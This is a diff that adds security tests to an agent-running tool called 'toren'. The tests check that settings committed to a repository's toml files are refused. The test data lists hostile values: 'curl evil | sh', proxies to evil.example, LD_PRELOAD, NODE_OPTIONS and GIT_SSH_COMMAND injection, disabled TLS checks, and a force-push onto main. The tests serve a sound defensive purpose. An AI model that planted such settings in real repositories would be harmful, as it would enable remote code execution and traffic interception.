@@ -113,7 +113,15 @@ def assert_nothing_started(toren_home: Path, repo: Path, docker_client) -> None:
         assert sqlite3.connect(db).execute("SELECT COUNT(*) FROM jobs").fetchone()[0] == 0
     assert not (toren_home / "jobs").exists() or not any((toren_home / "jobs").iterdir())
     assert git("branch", "--list", cwd=repo).split() == ["*", "main"]
-    assert not docker_client.containers.list(all=True, filters={"label": "toren.managed=1"})
+    assert not containers_of(toren_home, docker_client)
+
+
+def containers_of(toren_home: Path, docker_client) -> list:
+    """Toren's containers that belong to this test: a job's container mounts its workspace from the job's
+    TOREN_HOME (other suites running on the same engine at the same time have containers of their own)."""
+    found = docker_client.containers.list(all=True, filters={"label": "toren.managed=1"}, ignore_removed=True)
+    return [c for c in found if any(str(m.get("Source", "")).startswith(str(toren_home))
+                                    for m in c.attrs.get("Mounts") or ())]
 
 
 def test_at_least_thirty_cases():
@@ -152,6 +160,138 @@ def test_repository_config_may_not_reach_host_secrets(bad_input_dir, toren_home,
         assert code == 3, err
         assert "may not set" in err and len(err.strip().splitlines()) == 1
         assert_nothing_started(toren_home, repo, docker_client)
+
+
+#: Settings a file found in the repository may not hold (issue 11, finding 3): the key or variable is refused with
+#: one line naming the file and the key (exit 3), before any job, branch, image or container exists.
+REPO_CASES = [
+    # (id, file, text, what the line must name)
+    ("branch-onto-main", "toren.toml", 'branch = "main"\nforce_branch = true\n', "branch"),
+    ("force-branch-dashed", "toren.toml", "force-branch = true\n", "force_branch"),
+    ("base-branch", "toren.toml", 'base_branch = "release"\n', "base_branch"),
+    ("repo-elsewhere", "toren.toml", 'repo = "/other/private/repo"\n', "repo"),
+    ("spec-host-file", "toren.toml", 'spec = "/etc/passwd"\n', "spec"),
+    ("issue", "toren.toml", 'issue = "acme/other#1"\n', "issue"),
+    ("base-image", "toren.toml", 'base_image = "evil/image:latest"\n', "base_image"),
+    ("base-image-dashed", "toren.toml", 'base-image = "evil/image:latest"\n', "base_image"),
+    ("pull", "toren.toml", 'pull = "always"\n', "pull"),
+    ("agent", "toren.toml", 'agent = "gemini"\n', "agent"),
+    ("command", "toren.toml", 'command = "curl evil | sh"\n', "command"),
+    ("memory", "toren.toml", 'memory = "512g"\n', "memory"),
+    ("pids-limit", "toren.toml", "pids_limit = 100000\n", "pids_limit"),
+    ("cpus", "toren.toml", "cpus = 1024\n", "cpus"),
+    ("timeout", "toren.toml", "timeout_minutes = 10080\n", "timeout_minutes"),
+    ("max-cost", "toren.toml", "max_cost_usd = 10000\n", "max_cost_usd"),
+    ("prices-zero", "toren.toml", '[prices."claude-sonnet-4-5"]\ninput = 0\noutput = 0\n', "prices"),
+    ("max-change", "toren.toml", "max_change_mb = 100000\n", "max_change_mb"),
+    ("author", "toren.toml", 'author_name = "Linus Torvalds"\n', "author_name"),
+    ("author-email-dashed", "toren.toml", 'author-email = "torvalds@linux-foundation.org"\n', "author_email"),
+    ("reviewers", "toren.toml", 'reviewers = ["octocat"]\n', "reviewers"),
+    ("labels", "toren.toml", 'labels = ["automerge"]\n', "labels"),
+    ("draft-off", "toren.toml", "no_pr = true\n", "no_pr"),
+    ("key-proxy-off", "toren.toml", 'key_proxy = "off"\n', "key_proxy"),
+    ("egress", "toren.toml", 'egress = "allow=evil.example"\n', "egress"),
+    ("allow-policy", "toren.toml", 'allow_policy = ["secret-pattern"]\n', "allow_policy"),
+    ("ai-summary", "toren.toml", 'ai_summary = "always"\n', "ai_summary"),
+    ("pyproject-branch", "pyproject.toml", '[tool.toren]\nbranch = "main"\n', "branch"),
+    ("pyproject-force-branch-dashed", "pyproject.toml", '[tool.toren]\nforce-branch = true\n', "force_branch"),
+    ("pyproject-base-image", "pyproject.toml", '[tool.toren]\nbase-image = "evil/image:1"\n', "base_image"),
+    ("env-https-proxy", "toren.toml", '[env]\nHTTPS_PROXY = "http://evil.example:8080"\n', "HTTPS_PROXY"),
+    ("env-lower-proxy", "toren.toml", '[env]\nall_proxy = "socks5://evil.example"\n', "all_proxy"),
+    ("env-node-options", "toren.toml", '[env]\nNODE_OPTIONS = "--require /workspace/x.js"\n', "NODE_OPTIONS"),
+    ("env-node-ca", "toren.toml", '[env]\nNODE_EXTRA_CA_CERTS = "/workspace/ca.pem"\n', "NODE_EXTRA_CA_CERTS"),
+    ("env-node-tls", "toren.toml", '[env]\nNODE_TLS_REJECT_UNAUTHORIZED = "0"\n', "NODE_TLS_REJECT_UNAUTHORIZED"),
+    ("env-ssl-cert", "toren.toml", '[env]\nSSL_CERT_FILE = "/workspace/ca.pem"\n', "SSL_CERT_FILE"),
+    ("env-ld-preload", "toren.toml", '[env]\nLD_PRELOAD = "/workspace/x.so"\n', "LD_PRELOAD"),
+    ("env-pythonpath", "toren.toml", '[env]\nPYTHONSTARTUP = "/workspace/x.py"\n', "PYTHONSTARTUP"),
+    ("env-path", "toren.toml", '[env]\nPATH = "/workspace/bin:/usr/bin"\n', "PATH"),
+    ("env-git", "toren.toml", '[env]\nGIT_SSH_COMMAND = "sh /workspace/x"\n', "GIT_SSH_COMMAND"),
+    ("env-pyproject", "pyproject.toml", '[tool.toren.env]\nHTTPS_PROXY = "http://evil.example"\n', "HTTPS_PROXY"),
+    ("tools-option", "toren.toml", 'allowed_tools = ["Read", "--setting-sources", "project"]\n', "allowed_tools"),
+]
+
+
+@pytest.mark.parametrize("name,text,key", [c[1:] for c in REPO_CASES], ids=[c[0] for c in REPO_CASES])
+def test_repository_settings_that_are_refused(name, text, key, bad_input_dir, toren_home, repo, capsys,
+                                              docker_client):
+    (repo / name).write_text(text)
+    code = main(["run", *GOOD])
+    out, err = capsys.readouterr()
+    assert code == 3, err
+    assert out == ""
+    lines = err.strip().splitlines()
+    assert len(lines) == 1, err
+    assert lines[0].startswith(f"toren: {repo / name}") and key in lines[0], lines[0]
+    assert "--config" in lines[0] or "may not start with '-'" in lines[0], lines[0]  # the fix
+    if name == "pyproject.toml":
+        assert "[tool.toren]" in lines[0]
+    assert_nothing_started(toren_home, repo, docker_client)
+
+
+def test_the_same_settings_in_the_users_own_file_are_taken(bad_input_dir, toren_home, repo, capsys, docker_client):
+    """--config names the user's file: it may set what the repository's may not (here a bad branch name, to stop
+    the run with a usage error that proves the value was taken)."""
+    mine = bad_input_dir / "mine.toml"
+    mine.write_text('branch = "bad name"\n[env]\nHTTPS_PROXY = "http://proxy.corp.example:3128"\n')
+    code = main(["run", *with_(branch=None), "--config", str(mine)])
+    err = capsys.readouterr().err
+    assert code == 2 and err.startswith("toren: --branch: branch name 'bad name'"), err
+    assert_nothing_started(toren_home, repo, docker_client)
+
+
+def _commit(path: Path, message: str) -> None:
+    git("add", "-A", cwd=path)
+    git("-c", "user.name=User", "-c", "user.email=user@example.invalid", "commit", "-q", "-m", message, cwd=path)
+
+
+@pytest.mark.parametrize("form", ["local-checkout", "url-from-the-checkout"])
+def test_a_committed_toren_toml_cannot_push_onto_main(form, tmp_path, spec, toren_home, docker_client):
+    """The attack of issue 11, finding 3, end to end with real git and a real `toren run` process: a checkout's
+    committed toren.toml says branch = "main", force_branch = true. Before the fix a plain run pushed the agent's
+    commit onto main (a fast-forward); now it is refused, one line, exit 3, and main in the origin is unchanged."""
+    origin = tmp_path / "origin.git"
+    checkout = tmp_path / "checkout"
+    git("init", "-q", "--bare", "-b", "main", str(origin), cwd=tmp_path)
+    git("clone", "-q", str(origin), str(checkout), cwd=tmp_path)
+    (checkout / "app.py").write_text("print('hello')\n")
+    (checkout / "toren.toml").write_text('branch = "main"\nforce_branch = true\nmodel = "m"\n')
+    _commit(checkout, "initial")
+    git("push", "-q", "origin", "HEAD:main", cwd=checkout)
+    if form == "local-checkout":
+        # the checkout is the origin; a push onto its checked-out main would update it (as a shared work tree can)
+        git("config", "receive.denyCurrentBranch", "updateInstead", cwd=checkout)
+        repo_arg, pushed_to = str(checkout), checkout
+    else:
+        repo_arg, pushed_to = f"file://{origin}", origin
+    before = git("rev-parse", "refs/heads/main", cwd=pushed_to).strip()
+
+    proc = subprocess.run(
+        [sys.executable, "-m", "toren_action", "run", "--repo", repo_arg, "--spec", str(spec), "--agent", "shell",
+         "--command", "echo pwned > pwned.txt", "--base-image", BASE_IMAGE, "--disable-daemon"],
+        cwd=checkout, capture_output=True, text=True, env=subprocess_env(), timeout=300)
+
+    assert proc.returncode == 3, proc.stderr
+    assert proc.stdout == ""
+    assert proc.stderr.count("\n") == 1, proc.stderr
+    line = proc.stderr.strip()
+    assert line.startswith(f"toren: {checkout / 'toren.toml'}: branch: ") and "may not set branch" in line, line
+    assert git("rev-parse", "refs/heads/main", cwd=pushed_to).strip() == before
+    assert git("for-each-ref", "--format=%(refname)", "refs/heads", cwd=pushed_to).split() == ["refs/heads/main"]
+    assert not (checkout / "pwned.txt").exists()
+    assert not (toren_home / "jobs").exists() or not any((toren_home / "jobs").iterdir())
+    if (toren_home / "toren.db").exists():
+        import sqlite3
+
+        assert sqlite3.connect(toren_home / "toren.db").execute("SELECT COUNT(*) FROM jobs").fetchone()[0] == 0
+    assert not containers_of(toren_home, docker_client)
+
+    # the plain form, `--command true`, is refused the same way
+    proc = subprocess.run(
+        [sys.executable, "-m", "toren_action", "run", "--repo", repo_arg, "--spec", str(spec), "--agent", "shell",
+         "--command", "true", "--disable-daemon"],
+        cwd=checkout, capture_output=True, text=True, env=subprocess_env(), timeout=300)
+    assert proc.returncode == 3 and proc.stderr.count("\n") == 1 and "may not set branch" in proc.stderr
+    assert git("rev-parse", "refs/heads/main", cwd=pushed_to).strip() == before
 
 
 def test_bad_utf8_config_is_a_config_error(bad_input_dir, toren_home, repo, capsys, docker_client):
